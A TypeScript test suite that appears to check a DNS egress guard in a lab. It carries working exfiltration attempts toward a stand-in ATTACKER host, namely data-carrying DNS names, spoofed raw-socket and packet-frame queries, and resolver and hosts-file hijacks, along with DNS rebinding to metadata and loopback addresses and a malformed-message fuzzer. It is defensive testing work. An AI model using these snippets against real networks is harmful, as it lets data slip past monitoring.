// Questions as a way out and answers as a way in. Each is tried end to end: what must not leave
// carries a marker the sniffer looks for, what must not open is connected to, and the same path works
// for what is allowed.
import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { a, ATTACKER, cname, DnsArena, HOME, RESOLVER, UPSTREAM } from './dns-arena.ts';
import { VerdictLines } from './verdict-lines.ts';

const arena = new DnsArena('bdns');
const verdicts = new VerdictLines();
const OK = 'ok.example';
/** Private, on the loopback of the lab's internet: reachable when a grant opens it. */
const PRIVATE = '10.1.2.3';

beforeAll(async () => {
  await arena.open();
  await arena.answers(OK, a(OK, HOME));
  await arena.answers('exact.example', a('exact.example', HOME));
  const hosts = '/tmp/cargowall-bypass-hosts';
  writeFileSync(hosts, '127.0.0.1 localhost\n');
  arena.guarded.run('sh', '-c', `cp ${hosts} /run/hosts && mount --bind /run/hosts /etc/hosts`);
  await arena.guard({
    allow: [
      `${OK}:443, =exact.example:443, inside.example:443, rebound.example:443, cdn.example:443`,
      'chain.example:443, one.example:443, two.example:443, barrier.example:443',
    ].join(', '),
    block: 'denied.cdn.test',
    private: ['inside.example'],
    searchDomains: '.corp.example.net',
  });
}, 60_000);
afterAll(() => {
  arena.close();
  verdicts.print();
});

/** A refused question: what the client got, that it is in the log, and that nothing left. */
async function expectRefused(name: string, ...words: string[]): Promise<void> {
  const marker = /leak[0-9a-z]+/u.exec(name)?.[0] ?? '';
  expect(arena.dig(name, ...words)).toContain('status: REFUSED');
  expect(await arena.refusal(name)).toMatchObject({
    blocked: true,
    process: expect.stringMatching(/^(?:dig|isc-net)/u),
  });
  expect(await arena.hasArrived(marker)).toBe(false);
  expect(arena.asked.filter((text) => text.includes(marker))).toEqual([]);
}

describe('questions to somebody else', () => {
  test('case 63, other resolvers by UDP', async () => {
    await expectRefused(`${arena.marker()}.evil.test`, `@${ATTACKER}`);
    expect(arena.dig(OK, `@${ATTACKER}`)).toContain(HOME);
    expect([...arena.ports]).toEqual([`${UPSTREAM} 53`]);
    verdicts.closed(63, 'other resolvers by UDP');
  });

  test('case 64, other resolvers by TCP, and the second message of a stream', async () => {
    await expectRefused(`${arena.marker()}.evil.test`, '+tcp', `@${ATTACKER}`);
    await expectRefused(`${arena.marker()}.evil.test`, '+tcp', `@${RESOLVER}`);
    expect(arena.dig(OK, '+tcp', `@${ATTACKER}`)).toContain(HOME);
    const name = `${arena.marker()}.evil.test`;
    const got = arena.python(
      `
import socket, struct, sys
def message(i, n): return struct.pack('>6H', i, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\0\\0\\1\\0\\1'
def framed(m): return struct.pack('>H', len(m)) + m
s = socket.create_connection(('${ATTACKER}', 53), 3)
s.sendall(framed(message(1, '${OK}')) + framed(message(2, sys.argv[1])))
f = s.makefile('rb'); got = {}
for _ in range(2):
    m = f.read(struct.unpack('>H', f.read(2))[0]); got[m[1]] = m[3] & 15
print(got[1], got[2])`,
      name,
    );
    expect(got).toBe('0 5');
    await arena.refusal(name);
    expect(await arena.hasArrived(name.split('.')[0] ?? '')).toBe(false);
    verdicts.closed(64, 'other resolvers by TCP, and the second message of a stream');
  });

  test('case 66, DNS over TLS, over QUIC, and DNSCrypt', async () => {
    const marker = arena.marker();
    for (const to of [ATTACKER, RESOLVER]) {
      expect(arena.connect(to, 853)).toBe('PermissionError');
      expect(await arena.block(to, 853)).toMatchObject({ protocol: 'TCP', process: 'python3' });
      const from = (await arena.guarded.events()).length;
      for (const port of [853, 443]) {
        const send = `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'${marker}', ('${to}', ${port}))`;
        expect(arena.python(send)).toContain('PermissionError');
        expect(await arena.block(to, port, from)).toMatchObject({ protocol: 'UDP' });
      }
    }
    expect(await arena.hasArrived(marker)).toBe(false);
    expect(arena.dig(OK)).toContain(HOME);
    verdicts.closed(66, 'DNS over TLS, over QUIC, and DNSCrypt');
  });

  test('case 68, a container asks the upstream itself', async () => {
    const { lab } = arena.guarded;
    for (const server of [UPSTREAM, RESOLVER, ATTACKER]) {
      for (const words of [[], ['+tcp']]) {
        const name = `${arena.marker()}.evil.test`;
        const ask = (what: string) =>
          lab.runBoxed('dig', '+tries=1', '+time=3', ...words, `@${server}`, what).stdout;
        expect(ask(name)).toContain('status: REFUSED');
        expect(await arena.refusal(name)).toMatchObject({ origin: 'container' });
        expect(await arena.hasArrived(name.split('.')[0] ?? '')).toBe(false);
        expect(ask(OK)).toContain(HOME);
      }
    }
    verdicts.closed(68, 'a container asks the upstream itself');
  });

  test.each([
    ['a frame', `frame(b'\\x08\\0', ipv4(17, udp(M)))`],
    [
      'a raw socket',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17); s.sendto(udp(M), (TO, 0))`,
    ],
    [
      'a raw socket with a header of its own',
      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(ipv4(17, udp(M)), (TO, 0))`,
    ],
  ])('case 69, %s to the upstream', async (what, script) => {
    const marker = arena.marker();
    const from = (await arena.guarded.events()).length;
    arena.guarded.run(
      ...['setpriv', '--reuid=1001', '--regid=1001', '--clear-groups'],
      ...['--inh-caps=-all,+net_raw', '--ambient-caps=+net_raw', '--', '/usr/bin/python3', '-c'],
      `
import os, socket, struct
TO = '${UPSTREAM}'
M = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + bytes([${marker.length}]) + b'${marker}' + b'\\4evil\\4test\\0\\0\\1\\0\\1'
def udp(p): return struct.pack('>HHHH', 30000 + os.getpid() % 30000, 53, 8 + len(p), 0) + p
def ipv4(proto, payload):
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, socket.inet_aton('192.0.2.2'), socket.inet_aton(TO))
    s = sum(struct.unpack('>10H', head)); s = (s >> 16) + (s & 0xffff)
    return head[:10] + struct.pack('>H', ~s & 0xffff) + head[12:] + payload
def frame(kind, payload):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('up0', 0)); s.send(b'\\xff' * 6 + s.getsockname()[4] + kind + payload)
try:
    ${script}
except OSError as e: print(e)
`,
    );
    expect(await arena.block(UPSTREAM, 53, from)).toMatchObject({ protocol: 'UDP' });
    expect(await arena.hasArrived(marker)).toBe(false);
    expect(arena.dig(OK, `@${UPSTREAM}`)).toContain(HOME);
    verdicts.closed(69, `${what} to the upstream`);
  });
});

describe('names that carry data', () => {
  test('case 70, a name nobody has allowed', async () => {
    await expectRefused(`${arena.marker()}.evil.test`);
    expect(arena.dig(OK)).toContain(HOME);
    verdicts.closed(70, 'a name nobody has allowed');
  });

  test('case 71, labels below an allowed name leave, below an exact one they do not', async () => {
    const below = arena.marker();
    arena.dig(`${below}.${OK}`);
    expect(await arena.hasArrived(below)).toBe(true);
    const names = Array.from({ length: 100 }, () => `${arena.marker()}.exact.example`);
    arena.dig(...names.flatMap((name) => [name, 'A']));
    await arena.refusal(names.at(-1) ?? '');
    const refused = (await arena.guarded.events()).filter(({ dst_hostname: name = '' }) =>
      names.includes(name),
    );
    expect(refused).toHaveLength(names.length);
    await arena.hasArrived(below);
    expect(names.filter((name) => arena.arrived.has(name.split('.')[0] ?? ''))).toEqual([]);
    expect(arena.dig('exact.example')).toContain(HOME);
    verdicts.closed(71, 'labels below an exact name');
    verdicts.limited(71, 'labels below an allowed name', 'L3');
  });

  test('case 72, a public answer below a search domain', async () => {
    const name = 'data.corp.example.net';
    await arena.answers(name, a(name, ATTACKER));
    const said = arena.dig(name);
    expect(said).toContain('status: NOERROR');
    expect(said).not.toContain(ATTACKER);
    expect(await arena.refusal(name)).toMatchObject({
      reason: 'public addresses below a search domain',
    });
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    await arena.answers('db.corp.example.net', a('db.corp.example.net', PRIVATE));
    expect(arena.dig('db.corp.example.net')).toContain(PRIVATE);
    verdicts.closed(72, 'a public answer below a search domain');
  });

  test('case 73, reverse names', async () => {
    expect(arena.dig(OK)).toContain(HOME);
    const nibbles = (index: number) =>
      [...(0x5ec0_0000 + index).toString(16).padStart(20, '0')].join('.');
    for (let index = 0; index < 20; index++) {
      const name = `${nibbles(index)}.8.b.d.0.1.0.0.2.0.0.0.0.ip6.arpa`;
      expect(arena.dig(name, 'PTR')).toContain('status: NXDOMAIN');
    }
    expect(arena.dig('-x', '203.0.113.77')).toContain('status: NXDOMAIN');
    const [, ...rest] = nibbles(1);
    await expectRefused(`${arena.marker()}${rest.join('')}.113.0.203.in-addr.arpa`, 'PTR');
    expect(arena.dig('-x', HOME)).toContain(OK);
    expect(arena.asked.filter((text) => text.includes('arpa'))).toEqual([]);
    verdicts.closed(73, 'reverse names');
  });

  test('cases 75 and 76, what is denied starts no look-up, and a reverse name opens nothing', async () => {
    const reverse = `${ATTACKER.split('.').reverse().join('.')}.in-addr.arpa`;
    await arena.script({
      key: `${reverse} PTR`,
      reply: { answers: [{ name: reverse, type: 'PTR', ttl: 60, data: OK }] },
    });
    const from = (await arena.guarded.events()).length;
    const before = arena.asked.length;
    const many = `
import socket
for i in range(50):
    s = socket.socket(); s.settimeout(1)
    try: s.connect(('203.0.113.%d' % (100 + i), 443)); print('connected')
    except PermissionError: pass
`;
    expect(arena.python(many)).toBe('');
    for (let round = 0; round < 2; round++) {
      expect(arena.connect(ATTACKER)).toBe('PermissionError');
      expect(arena.dig('-x', ATTACKER)).toContain('status: NXDOMAIN');
    }
    const isHere = (address: string) => address === ATTACKER || address.startsWith('203.0.113.');
    const events = await arena.guarded.events(
      (all) => all.slice(from).filter(({ dst_ip: to = '' }) => isHere(to)).length === 52,
    );
    for (const event of events.slice(from).filter(({ dst_ip: to = '' }) => isHere(to))) {
      expect(event).toMatchObject({ event_type: 'connection_blocked', blocked: true });
      expect(event.dst_hostname ?? '').not.toContain('ok');
    }
    await arena.hasArrived('');
    const asked = arena.asked.slice(before);
    expect(asked.filter((text) => /arpa|198\.51|203\.0/u.test(text))).toEqual([]);
    verdicts.closed(75, 'what is denied starts no look-up');
    verdicts.closed(76, 'a reverse name opens nothing');
  });
});

describe('answers that open too much', () => {
  test('case 77, records of other owners in every section', async () => {
    const extra = a('other.test', ATTACKER);
    const reply = { answers: [extra, a('one.example', HOME), extra] };
    await arena.script({
      key: 'one.example A',
      reply: { ...reply, authorities: [extra], additionals: [extra, a('one.example', ATTACKER)] },
    });
    const said = arena.dig('one.example');
    expect(said).toContain(HOME);
    expect(said).not.toContain(ATTACKER);
    expect(arena.connect(HOME)).toBe('connected');
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    await arena.block(ATTACKER, 443);
    verdicts.closed(77, 'records of other owners in every section');
  });

  test('case 78, an alias is a literal on its origin’s ports; a deny on the target wins', async () => {
    const target = 'edge.cdn.test';
    const to = '198.51.100.11';
    await arena.answers('chain.example', cname('chain.example', target), a(target, to));
    await arena.answers(
      'cdn.example',
      cname('cdn.example', 'denied.cdn.test'),
      a('denied.cdn.test', ATTACKER),
    );
    expect(arena.dig('chain.example')).toContain(to);
    expect([arena.connect(to), arena.connect(to, 80)]).toEqual(['connected', 'PermissionError']);
    await arena.answers(target, a(target, to));
    expect(arena.dig(target)).toContain(to);
    await expectRefused(`${arena.marker()}.${target}`);
    for (const type of ['TXT', 'MX', 'SRV', 'NS', 'SOA']) {
      expect(arena.dig(target, type)).toContain('status: REFUSED');
    }
    arena.dig('cdn.example');
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    verdicts.closed(78, 'aliases');
  });

  const REBOUND = [
    ['127.0.0.1', 'removed'],
    ['0.0.0.0', 'removed'],
    ['169.254.169.254', 'removed'],
    ['169.254.7.7', 'removed'],
    ['192.0.2.2', 'removed'],
    ['::1', 'removed'],
    ['::', 'removed'],
    ['fe80::7', 'removed'],
    ['::ffff:127.0.0.1', 'removed'],
    ['2001:db8::2', 'removed'],
    ['168.63.129.16', 'answered'],
    [PRIVATE, 'answered'],
    ['172.16.9.9', 'answered'],
    ['192.168.9.9', 'answered'],
    ['100.64.9.9', 'answered'],
    ['fd00::9', 'answered'],
    ['224.0.0.251', 'answered'],
    ['::ffff:10.1.2.3', 'answered'],
    ['64:ff9b::a01:203', 'answered'],
  ] as const;
  test.each(REBOUND)('case 80, rebinding to %s is %s and opens nothing', async (address, what) => {
    const name = `r${address.replace(/\W/gu, '-')}.rebound.example`;
    const type = address.includes(':') ? 'AAAA' : 'A';
    await arena.script({ key: `${name} ${type}`, reply: { answers: [a(name, address)] } });
    const said = arena.dig(name, type);
    expect(said).toContain('status: NOERROR');
    expect(/ANSWER: (\d)/u.exec(said)?.[1]).toBe(what === 'removed' ? '0' : '1');
    if (what === 'removed') {
      expect(await arena.refusal(name)).toMatchObject({ reason: 'guarded addresses only' });
    } else {
      const outcome = arena.connect(address);
      expect(['PermissionError', 'OSError']).toContain(outcome);
    }
    verdicts.closed(80, `rebinding to ${address}`);
  });

  test('case 80, private: true opens a private answer and nothing else does', async () => {
    await arena.answers('inside.example', a('inside.example', PRIVATE));
    expect(arena.dig('inside.example')).toContain(PRIVATE);
    expect([arena.connect(PRIVATE), arena.connect(PRIVATE, 80)]).toEqual([
      'ConnectionRefusedError',
      'PermissionError',
    ]);
  });

  test('case 82, types and classes', async () => {
    const mx = { name: OK, type: 'MX', ttl: 60, data: { preference: 1, exchange: OK } } as const;
    await arena.script({ key: `${OK} MX`, reply: { answers: [mx] } });
    const answered = ['A', 'AAAA', 'CNAME', 'HTTPS', 'SVCB', 'SRV', 'TXT', 'MX', 'NS', 'SOA'];
    for (const type of answered) {
      expect(arena.dig(OK, type), type).toContain('status: NOERROR');
      await expectRefused(`${arena.marker()}.evil.test`, type);
    }
    const refused = ['ANY', 'NAPTR', 'TYPE10', 'CAA', 'DNSKEY', 'LOC'];
    for (const type of refused) {
      await expectRefused(`${arena.marker()}.${OK}`, '+noall', '+comments', type);
    }
    expect(arena.dig(OK, '-c', 'CH', 'TXT')).toContain('status: REFUSED');
    expect(arena.dig(OK, 'AXFR')).toMatch(/Transfer failed|REFUSED/u);
    verdicts.closed(82, 'types and classes');
  });

  test('case 82, a service record loses its hints and its key', async () => {
    // priority 1, target ".", alpn h2, ipv4hint, ech, ipv6hint
    const hint = '0004 0004 c6336414 0005 0004 deadbeef 0006 0010 20010db8000100000000000000000066';
    const service = `0001 00 0001 0003 026832 ${hint}`.replaceAll(' ', '');
    await arena.script({ key: `two.example UNKNOWN_65`, service });
    const said = arena.dig('two.example', 'TYPE65', '+unknownformat').replaceAll(' ', '');
    expect(said.toLowerCase()).toContain('026832');
    expect(said.toLowerCase()).not.toMatch(/c6336414|deadbeef|20010db8/u);
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    verdicts.closed(82, 'hints of service records');
  });
});

describe('what a job does to its own machine', () => {
  test('case 89, an edited hosts file and a client with a cache of its own', async () => {
    arena.guarded.run('sh', '-c', `echo '${ATTACKER} ${OK}' > /etc/hosts`);
    const curl = (...words: string[]) =>
      arena.run('curl', '-sS', '-k', '-m', '3', ...words, `https://${OK}/`);
    const from = (await arena.guarded.events()).length;
    expect(curl().stderr).toMatch(/connect/iu);
    expect(await arena.block(ATTACKER, 443, from)).toMatchObject({ process: 'curl' });
    arena.guarded.run('sh', '-c', `echo '127.0.0.1 localhost' > /etc/hosts`);
    expect(curl('--resolve', `${OK}:443:203.0.113.50`).stderr).toMatch(/connect/iu);
    await arena.block('203.0.113.50', 443, from);
    expect(curl().stdout).toContain('hello');
    verdicts.closed(89, 'hosts file and caches');
  });

  test('case 90, a resolver configuration written back', async () => {
    const write = (server: string) =>
      arena.guarded.run('sh', '-c', `echo 'nameserver ${server}' > /etc/resolv.conf`);
    write(ATTACKER);
    await expectRefused(`${arena.marker()}.evil.test`);
    expect(arena.run('getent', 'ahostsv4', OK).stdout).toContain(HOME);
    write(RESOLVER);
    expect([...arena.ports]).toEqual([`${UPSTREAM} 53`]);
    verdicts.closed(90, 'a resolver configuration written back');
  });

  test('case 85, broken messages by UDP and TCP', async () => {
    const script = `
import random, socket, struct
r = random.Random(85)
head = struct.pack('>6H', 7, 256, 1, 0, 0, 0)
name = b'\\2ok\\7example\\0'
whole = head + name + b'\\0\\1\\0\\1'
odd = [b'', head, head[:11], head + b'\\xc0\\x0c\\0\\1\\0\\1', head + b'\\xc0\\x0e\\xc0\\x0c\\0\\1\\0\\1', head + b'\\x40' + b'a' * 64 + b'\\0\\0\\1\\0\\1', head + (b'\\x3f' + b'a' * 63) * 5 + b'\\0\\0\\1\\0\\1', head[:4] + b'\\xff\\xff' + head[6:] + name, head[:6] + b'\\xff' * 6 + name + b'\\0\\1\\0\\1', head[:2] + b'\\x81\\x80' + head[4:] + name + b'\\0\\1\\0\\1', head + b'\\3a\\0b' + name + b'\\0\\1\\0\\1']
for _ in range(3000):
    m = bytearray(whole + bytes(r.randrange(40)))
    for _ in range(r.randrange(1, 8)): m[r.randrange(len(m))] = r.randrange(256)
    odd.append(bytes(m[:r.randrange(len(m) + 1)]))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('${RESOLVER}', 53))
for m in odd: u.send(m)
for at in range(0, len(odd), 100):
    t = socket.create_connection(('${RESOLVER}', 53), 3)
    try:
        t.sendall(b''.join(struct.pack('>H', len(m)) + m for m in odd[at:at + 100]) + struct.pack('>H', 65535) + bytes(65535) + b'\\xff')
    except OSError: pass
    t.close()
print('sent')
`;
    expect(arena.python(script)).toBe('sent');
    expect(arena.dig(OK)).toContain(HOME);
    await expectRefused(`${arena.marker()}.evil.test`);
    expect(arena.connect(ATTACKER)).toBe('PermissionError');
    const kinds = arena.records().map(({ event_type: kind }) => kind);
    expect(kinds).not.toContain('daemon_restarted');
    verdicts.closed(85, 'broken messages');
  });

  test('case 92, timing of what is cached', () => {
    verdicts.limited(92, 'timing of what is cached', 'L5');
  });
});
